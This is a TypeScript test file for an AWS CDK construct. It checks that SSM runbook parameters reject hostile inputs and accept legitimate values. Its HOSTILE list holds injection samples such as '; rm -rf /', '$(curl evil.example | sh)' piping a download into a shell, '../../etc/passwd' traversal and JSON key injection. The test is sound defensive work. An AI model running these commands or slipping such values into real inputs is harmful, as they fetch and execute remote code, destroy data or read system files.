/**
 * Hardening: runbook inputs. Every parameter of the Launch, Resume and Stop Automation documents of
 * the synthesized L3 construct is typed and constrained (allowedPattern or allowedValues), and
 * hostile values (shell and JSON injection, newlines, traversal, very long strings) are rejected by
 * each allowedPattern under JS RegExp semantics, while legitimate values are accepted.
 *
 * Parameters fall in three kinds, with different hostile sets:
 * - identifier (vault name, run id): nothing but the documented characters, no `.`/`..` alone;
 * - url (naming override location): an s3:// URI or https:// URL without quotes, backslashes,
 *   whitespace, shell substitutions, bounded length;
 * - text (run description): free text kept on the run record. Shell metacharacters are inert
 *   there (no runbook step runs a shell or a script), but the value is substituted into the JSON
 *   string of StartExecution's `input`, so quotes, backslashes, control characters and newlines
 *   must be refused.
 * Gaps found are listed in KNOWN_GAPS (the test fails when one is fixed or a new one appears).
 */
import { Template } from 'aws-cdk-lib/assertions';
import { makeStack } from '../constructs/helpers';

type Kind = 'identifier' | 'url' | 'text';

interface Parameter {
  readonly type?: string;
  readonly description?: string;
  readonly default?: string;
  readonly allowedPattern?: string;
  readonly allowedValues?: string[];
}

const KIND: Readonly<Record<string, Kind>> = {
  VaultName: 'identifier',
  VaultNameConfirmation: 'identifier',
  WorkflowRun: 'identifier',
  NamingOverrideFile: 'url',
  Description: 'text',
};

const LEGITIMATE: Readonly<Record<string, string[]>> = {
  VaultName: ['photos', 'my-vault_2024.backup', 'V'.repeat(255)],
  VaultNameConfirmation: ['photos', 'my-vault_2024.backup'],
  WorkflowRun: ['run-2024-01-01', 'a'.repeat(64), '3f2a9c1e-5b7d-4e8f-9a0b-1c2d3e4f5a6b', 'nightly.v2_b'],
  NamingOverrideFile: [
    's3://my-bucket/overrides/names.csv',
    's3://my.bucket-1/a/b/c%20d.csv',
    'https://my-bucket.s3.eu-west-1.amazonaws.com/names.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=3600&X-Amz-Signature=0a1b2c',
  ],
  Description: ['Transfer of the 2019 photo archive (phase 2)', 'Ticket OPS-1234: migrate before 2025-06-30', 'café ☕', 'x'.repeat(256)],
};

interface Hostile {
  readonly label: string;
  readonly value: string;
  readonly kinds: readonly Kind[];
}

const ALL: readonly Kind[] = ['identifier', 'url', 'text'];
const NOT_TEXT: readonly Kind[] = ['identifier', 'url'];
const HOSTILE: readonly Hostile[] = [
  { label: 'shell command separator', value: '; rm -rf /', kinds: NOT_TEXT },
  { label: 'shell substitution', value: '$(curl evil.example | sh)', kinds: NOT_TEXT },
  { label: 'shell substitution in a URL', value: 'https://evil.example/$(reboot)', kinds: ['url'] },
  { label: 'command separator in a URL', value: 'https://evil.example/x;rm', kinds: ['url'] },
  { label: 'backticks', value: '`id`', kinds: NOT_TEXT },
  { label: 'newline', value: 'a\nb', kinds: ALL },
  { label: 'CRLF', value: 'a\r\nb', kinds: ALL },
  { label: 'newline in a URL', value: 's3://bucket/a\nb', kinds: ['url'] },
  { label: 'trailing newline', value: 'photos\n', kinds: ALL },
  { label: 'NUL', value: 'a\u0000b', kinds: ALL },
  { label: 'escape character', value: 'a\u001b[2Jb', kinds: ALL },
  { label: 'traversal', value: '../', kinds: NOT_TEXT },
  { label: 'deep traversal', value: '../../etc/passwd', kinds: NOT_TEXT },
  { label: 'dot-dot alone', value: '..', kinds: ['identifier'] },
  { label: 'dot alone', value: '.', kinds: ['identifier'] },
  { label: 'very long string (5,000)', value: 'a'.repeat(5000), kinds: ALL },
  { label: 'very long URL (5,000)', value: `https://e.example/${'a'.repeat(5000)}`, kinds: ['url'] },
  { label: 'JSON injection "}', value: '"}', kinds: ALL },
  { label: 'JSON key injection', value: 'x","vaultName":"other', kinds: ALL },
  { label: 'JSON injection in a URL', value: 'https://e.example/"}', kinds: ['url'] },
  { label: 'backslash', value: 'a\\', kinds: ALL },
  { label: 'backslash in a URL', value: 'https://e.example/\\u0022', kinds: ['url'] },
  { label: 'empty', value: '', kinds: [] }, // only optional parameters accept it: checked below
];

/**
 * Hostile values the current patterns accept (document.parameter: label). The first review found
 * JSON injection through Description and NamingOverrideFile and `.`/`..` run ids and vault names;
 * those patterns were tightened in src/constructs/runbooks.ts, so the list is empty. Add an entry
 * only with a reason.
 */
const KNOWN_GAPS: readonly string[] = [];

function documents(): Record<string, Record<string, Parameter>> {
  const { stack } = makeStack({ allowedVaultNames: ['photos', 'docs'], destinationPrefix: 'restored/' });
  const template = Template.fromStack(stack);
  const out: Record<string, Record<string, Parameter>> = {};
  for (const r of Object.values(template.findResources('AWS::SSM::Document')) as any[]) {
    const name = String(r.Properties.Name);
    const kind = ['Launch', 'Resume', 'Stop', 'Decommission'].find((k) => name.endsWith(`-${k}`));
    if (kind) out[kind] = r.Properties.Content.parameters ?? {};
  }
  return out;
}

const docs = documents();
const accepts = (p: Parameter, value: string): boolean =>
  p.allowedValues !== undefined ? p.allowedValues.includes(value) : new RegExp(p.allowedPattern!).test(value);

describe('runbook parameters', () => {
  it('the Launch, Resume, Stop and Decommission documents are all there', () => {
    expect(Object.keys(docs).sort()).toEqual(['Decommission', 'Launch', 'Resume', 'Stop']);
  });

  it('every parameter is a typed String with an allowedPattern or allowedValues, and a description', () => {
    for (const [doc, params] of Object.entries(docs)) {
      expect(Object.keys(params).length).toBeGreaterThan(0);
      for (const [name, p] of Object.entries(params)) {
        const where = `${doc}.${name}`;
        expect({ where, type: p.type }).toEqual({ where, type: 'String' });
        expect({ where, constrained: p.allowedPattern !== undefined || p.allowedValues !== undefined }).toEqual({ where, constrained: true });
        expect(p.description).toBeTruthy();
        if (p.allowedPattern !== undefined) {
          expect({ where, kind: KIND[name] }).toEqual({ where, kind: expect.any(String) }); // classify any new pattern parameter
          expect(() => new RegExp(p.allowedPattern!)).not.toThrow();
          // Every alternative is anchored at both ends.
          for (const alt of p.allowedPattern.split(/(?<!\\)\|(?![^[]*\])(?![^(]*\))/)) expect({ where, alt }).toEqual({ where, alt: expect.stringMatching(/^\^.*\$$/s) });
        }
        if (p.allowedValues !== undefined) {
          expect(p.allowedValues.length).toBeGreaterThan(0);
          for (const v of p.allowedValues) expect(v).toMatch(/^[A-Za-z0-9 .()-]+$/);
        }
        if (p.default !== undefined) expect({ where, defaultAccepted: accepts(p, p.default) }).toEqual({ where, defaultAccepted: true });
      }
    }
  });

  it('legitimate values are accepted', () => {
    for (const [doc, params] of Object.entries(docs)) {
      for (const [name, p] of Object.entries(params)) {
        const values = p.allowedValues ?? LEGITIMATE[name];
        expect({ where: `${doc}.${name}`, hasExamples: values !== undefined && values.length > 0 }).toEqual({ where: `${doc}.${name}`, hasExamples: true });
        for (const v of values) expect({ where: `${doc}.${name}`, v, accepted: accepts(p, v) }).toEqual({ where: `${doc}.${name}`, v, accepted: true });
      }
    }
  });

  it('an empty value is accepted only by parameters that default to empty (optional ones)', () => {
    for (const [doc, params] of Object.entries(docs)) {
      for (const [name, p] of Object.entries(params)) {
        expect({ where: `${doc}.${name}`, acceptsEmpty: accepts(p, '') }).toEqual({ where: `${doc}.${name}`, acceptsEmpty: p.default === '' });
      }
    }
  });

  it('allowedValues parameters refuse every hostile value', () => {
    for (const [doc, params] of Object.entries(docs)) {
      for (const [name, p] of Object.entries(params)) {
        if (p.allowedValues === undefined) continue;
        for (const h of HOSTILE) if (h.value !== '') expect({ where: `${doc}.${name}`, h: h.label, accepted: accepts(p, h.value) }).toEqual({ where: `${doc}.${name}`, h: h.label, accepted: false });
      }
    }
  });

  it('allowedPattern parameters refuse the hostile values of their kind (known gaps listed)', () => {
    const gaps: string[] = [];
    let checked = 0;
    for (const [doc, params] of Object.entries(docs)) {
      for (const [name, p] of Object.entries(params)) {
        if (p.allowedPattern === undefined) continue;
        const kind = KIND[name];
        for (const h of HOSTILE) {
          if (!h.kinds.includes(kind)) continue;
          checked++;
          if (accepts(p, h.value)) gaps.push(`${doc}.${name}: ${h.label}`);
        }
      }
    }
    expect(checked).toBeGreaterThan(40);
    expect(gaps.sort()).toEqual([...KNOWN_GAPS].sort());
  });

  it('no parameter that a JSON string embeds can carry a quote or a backslash', () => {
    // StartExecution's `input` is a JSON text with {{Parameter}} inside string literals.
    const { stack } = makeStack({ allowedVaultNames: ['photos'], destinationPrefix: 'restored/' });
    const template = Template.fromStack(stack);
    const embedded = new Map<string, Set<string>>();
    for (const r of Object.values(template.findResources('AWS::SSM::Document')) as any[]) {
      const doc = ['Launch', 'Resume', 'Stop', 'Decommission'].find((k) => String(r.Properties.Name).endsWith(`-${k}`))!;
      for (const step of r.Properties.Content.mainSteps) {
        const input = step.inputs?.input;
        if (typeof input !== 'string') continue;
        for (const m of input.matchAll(/\{\{\s*([A-Za-z]+)\s*\}\}/g)) {
          const set = embedded.get(doc) ?? new Set<string>();
          set.add(m[1]);
          embedded.set(doc, set);
        }
      }
    }
    expect(embedded.size).toBeGreaterThan(0);
    const breaking: string[] = [];
    for (const [doc, names] of embedded) {
      for (const name of names) {
        const p = docs[doc][name];
        if (p === undefined) continue; // a step output, not a parameter
        for (const v of ['"', '\\', 'a"b', 'a\\b']) if (accepts(p, v) || accepts(p, `https://e.example/${v}`)) breaking.push(`${doc}.${name}`);
      }
    }
    const known = KNOWN_GAPS.filter((g) => /JSON|backslash/.test(g)).map((g) => g.split(':')[0]);
    expect([...new Set(breaking)].sort()).toEqual([...new Set(known)].sort());
  });
});
